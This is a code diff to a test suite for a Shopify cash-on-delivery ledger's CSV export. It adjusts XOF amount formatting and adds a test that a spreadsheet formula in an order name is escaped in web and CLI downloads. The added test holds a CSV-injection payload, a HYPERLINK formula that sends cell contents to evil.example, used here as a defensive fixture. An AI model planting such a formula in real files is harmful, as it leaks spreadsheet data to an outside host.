@@ -134,7 +134,7 @@ describe("the CSV download", () => {
     );
     expect(lines).toHaveLength(1 + 3 + 5 + 4);
     expect(lines).toContain(
-      `collected,,#5010,${story.recorded.id},XOF,2500000,25000.00,true,COD_COLLECTED,delivered,${story.recorded.sentAt!.toISOString()},${story.recorded.codCollectedAt!.toISOString()},${story.recorded.shopifyPaidAt!.toISOString()},${day(story.recorded.codCollectedAt)},"25,000 XOF",UTC`,
+      `collected,,#5010,${story.recorded.id},XOF,2500000,25000,true,COD_COLLECTED,delivered,${story.recorded.sentAt!.toISOString()},${story.recorded.codCollectedAt!.toISOString()},${story.recorded.shopifyPaidAt!.toISOString()},${day(story.recorded.codCollectedAt)},"25,000 XOF",UTC`,
     );
     expect(lines).toContain(
       `collected,,#5020,${story.euro.id},EUR,4199,41.99,true,COD_COLLECTED,delivered,${story.euro.sentAt!.toISOString()},${story.euro.codCollectedAt!.toISOString()},${story.euro.shopifyPaidAt!.toISOString()},${day(story.euro.codCollectedAt)},41.99 EUR,UTC`,
@@ -159,6 +159,46 @@ describe("the CSV download", () => {
     const anonymous = await fetch(csvUrl(), { headers: { "User-Agent": BROWSER }, redirect: "manual" });
     expect(anonymous.status).not.toBe(200);
     expect(await anonymous.text()).not.toContain("#5010");
+  });
+});
+
+describe("a cell a spreadsheet would run", () => {
+  // An order name is the merchant's prefix and number in Shopify; a buyer's text reaches other files the same way.
+  const FORMULA = '-1+HYPERLINK("http://evil.example/?"&A1,"x")';
+  const DEFUSED = `"'-1+HYPERLINK(""http://evil.example/?""&A1,""x"")"`;
+
+  test("is text in the download and the CLI's file; French viewers get a French file, XOF without decimals", async () => {
+    const formulaShop = await stack.installShop({ currency: "XOF", label: "ledger-formula" });
+    const { id } = await stack.db.shop.findUniqueOrThrow({ where: { domain: formulaShop } });
+    const row = await ledgerRow(stack.db, id, { orderName: FORMULA, codAmountMinor: 3_150_000 });
+    const english = await fetch(`${stack.app.url}/app/cod-ledger/csv`, {
+      headers: { "User-Agent": BROWSER, Authorization: `Bearer ${sessionToken(formulaShop)}` },
+    });
+    expect(english.status).toBe(200);
+    const line = `on_the_road,,${DEFUSED},${row.id},XOF,3150000,31500,,COD_PENDING,in_transit,${row.sentAt!.toISOString()},,,,"31,500 XOF",UTC`;
+    expect((await english.text()).split("\r\n")).toContain(line);
+
+    // A French viewer (Shopify names the admin's language on the request) gets the French file.
+    const french = await fetch(`${stack.app.url}/app/cod-ledger/csv?locale=fr`, {
+      headers: { "User-Agent": BROWSER, Authorization: `Bearer ${sessionToken(formulaShop, 3600, "french-viewer")}` },
+    });
+    expect(french.status).toBe(200);
+    const bytes = Buffer.from(await french.arrayBuffer());
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    const frenchLines = bytes.subarray(3).toString("utf8").split("\r\n");
+    expect(frenchLines[0]).toMatch(
+      /^Rubrique;Motif;Commande;Identifiant de la commande;Devise;Montant \(centièmes\);Montant;/,
+    );
+    expect(frenchLines[1]).toBe(
+      `on_the_road;;${DEFUSED};${row.id};XOF;3150000;31500;;COD_PENDING;in_transit;${row.sentAt!.toISOString()};;;;31\u202f500 XOF;UTC`,
+    );
+
+    const cli = await runCli(stack, ["cod:ledger", "--shop", formulaShop, "--csv"]);
+    expect(cli.code).toBe(0);
+    expect(cli.stdout.split("\r\n")).toContain(line);
+    const cliFrench = await runCli(stack, ["cod:ledger", "--shop", formulaShop, "--csv", "--locale", "fr"]);
+    expect(cliFrench.code).toBe(0);
+    expect(cliFrench.stdout).toBe(`\uFEFF${frenchLines.join("\r\n")}`);
   });
 });
 
@@ -187,7 +227,7 @@ describe("npm run cli -- cod:ledger", () => {
     expect(csv.code).toBe(0);
     const lines = csv.stdout.trimEnd().split("\r\n");
     expect(lines.filter((line) => line.startsWith("collected,"))).toEqual([
-      `collected,,#5013,${story.old.id},XOF,9900000,99000.00,true,COD_COLLECTED,delivered,${story.old.sentAt!.toISOString()},${story.old.codCollectedAt!.toISOString()},${story.old.shopifyPaidAt!.toISOString()},${oldDay},"99,000 XOF",UTC`,
+      `collected,,#5013,${story.old.id},XOF,9900000,99000,true,COD_COLLECTED,delivered,${story.old.sentAt!.toISOString()},${story.old.codCollectedAt!.toISOString()},${story.old.shopifyPaidAt!.toISOString()},${oldDay},"99,000 XOF",UTC`,
     ]);
     const text = await runCli(stack, ["cod:ledger", "--shop", shop]);
     expect(text.code).toBe(0);
